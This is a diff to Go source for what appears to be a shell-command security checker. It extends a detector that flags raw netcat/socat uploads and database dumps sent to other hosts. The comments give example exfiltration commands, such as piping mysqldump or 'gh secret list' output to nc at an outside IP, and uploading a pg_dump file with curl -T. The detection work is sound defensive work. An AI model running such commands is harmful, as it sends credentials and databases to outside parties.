@@ -1103,7 +1103,7 @@ func exfilOf(ctx *Context, c *Command) *Finding {
 				sent = append(sent, r.Target.Value)
 			}
 		}
-		if f := rawUpload(c); f != nil {
+		if f := rawUpload(ctx, c); f != nil {
 			return f
 		}
 	case does(c, name, roleWebCmdlet):
@@ -1212,18 +1212,32 @@ func rawPeer(c *Command) string {
 
 // rawUpload refuses a raw connection to another machine (nc HOST PORT,
 // socat - TCP:HOST:PORT) whose input is a program's output
-// (mysqldump | nc 203.0.113.7 4444, tar c dir | gzip | ncat h p): a
-// connection with no protocol, no name at the other end and no
-// authentication takes whatever the program produced to whoever
-// listens there. Text the command line writes (printf 'GET /
-// HTTP/1.0\r\n\r\n' | nc example.com 80, echo ruok | nc zk 2181) is a
-// request, not data.
-func rawUpload(c *Command) *Finding {
+// (mysqldump | nc 203.0.113.7 4444, tar c dir | gzip | ncat h p), or a
+// file a program's output was written to earlier in the input (gh
+// secret list > s.txt; nc h 80 < s.txt): a connection with no
+// protocol, no name at the other end and no authentication takes
+// whatever the program produced to whoever listens there. Text the
+// command line writes (printf 'GET / HTTP/1.0\r\n\r\n' | nc example.com
+// 80, echo ruok | nc zk 2181) is a request, not data.
+func rawUpload(ctx *Context, c *Command) *Finding {
 	host := rawPeer(c)
 	if host == "" || loopbackHost(host) || reverseShellOf(c) != "" {
 		return nil // a shell's streams on the connection: net.reverse-shell's
 	}
-	f := chainHas(c.Feeds, c, func(x *Command) bool { return !literalPrinter(x) })
+	program := func(x *Command) bool { return !literalPrinter(x) }
+	f := chainHas(c.Feeds, c, program)
+	for _, r := range c.Redirs {
+		if f != nil || r.Op != "<" || r.Fd != "" && r.Fd != "0" {
+			continue
+		}
+		if x := writerOf(ctx, c, r.Target.Value); x != nil {
+			plain := *x
+			plain.Redirs = nil // echo ruok > f: the file it writes is its output
+			if program(&plain) {
+				f = x
+			}
+		}
+	}
 	if f == nil {
 		return nil
 	}
@@ -1300,6 +1314,48 @@ func archivedProject(ctx *Context, c *Command, p string) (string, bool) {
 		}
 	}
 	return "", false
+}
+
+// writerOf returns the last command before c in the input that writes
+// the file p names, by a redirection or an option of its own (pg_dump
+// db > d.txt, sort -o out.txt): nil when none does.
+func writerOf(ctx *Context, c *Command, p string) *Command {
+	if ctx.Input == nil {
+		return nil
+	}
+	want, ok := fsPath(ctx.Env, Word{Value: p, Literal: !strings.ContainsAny(p, "$`~")})
+	if !ok {
+		return nil
+	}
+	var last *Command
+	for _, x := range ctx.Input.Commands {
+		if x == c || !ctx.before(x, c) {
+			continue
+		}
+		if slices.ContainsFunc(fsWrites(x), func(w Word) bool { q, ok := fsPath(ctx.Env, w); return ok && q == want }) {
+			last = x
+		}
+	}
+	return last
+}
+
+// dumpedInto returns the dumper whose output the file p that c sends
+// holds: an earlier command of the input wrote p with a database's whole
+// contents, its own or piped through filters (pg_dump db > d.txt;
+// curl -T d.txt URL; mysqldump db | gzip > out.gz): what a pipe straight
+// into c would send (dumpsData). "" when none did.
+func dumpedInto(ctx *Context, c *Command, p string) string {
+	x := writerOf(ctx, c, p)
+	switch {
+	case x == nil:
+		return ""
+	case dumpsData(x):
+		return x.Name
+	}
+	if d := chainHas(x.Feeds, x, dumpsData); d != nil {
+		return d.Name
+	}
+	return ""
 }
 
 // listedTreeSent returns what c uploads when p is the item a lister
@@ -1720,6 +1776,8 @@ func sentWhat(ctx *Context, c *Command, p string) string {
 	}
 	if src, ok := archivedProject(ctx, c, p); ok {
 		return p + ", an archive of " + src + ","
+	} else if d := dumpedInto(ctx, c, p); d != "" {
+		return p + ", a database's whole contents (" + d + "),"
 	} else if strings.HasPrefix(p, "archive of ") {
 		return "an archive of " + strings.TrimPrefix(p, "archive of ") + ","
 	} else if strings.HasPrefix(p, "dump of ") {
